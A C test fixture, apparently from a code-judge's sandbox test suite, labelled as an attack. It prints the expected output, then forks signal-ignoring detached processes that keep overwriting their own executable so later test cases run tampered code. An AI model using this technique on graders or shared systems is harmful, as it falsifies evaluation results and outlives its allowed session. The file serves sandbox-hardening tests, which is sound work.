// attack: leaves processes that hold its program open to be written, and write it when they can
// expect: accepted
// tests: [{"expected": "honest"}, {"expected": "honest"}, {"expected": "honest"}]
// cases: accepted accepted accepted
// after: the next case runs what the compiler made
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    char path[256] = "";
    readlink("/proc/self/exe", path, sizeof path - 1);
    puts("honest");
    fflush(stdout);
    for (int n = 0; n < 8; n++)
        if (fork() == 0) {
            setsid();
            for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
            for (;;) {
                int file = open(path, O_RDWR | O_CREAT, 0755);
                write(file, "cheated", 7);
                close(file);
                rename(path, "/work/x");
                rename("/work/x", path);
            }
        }
}
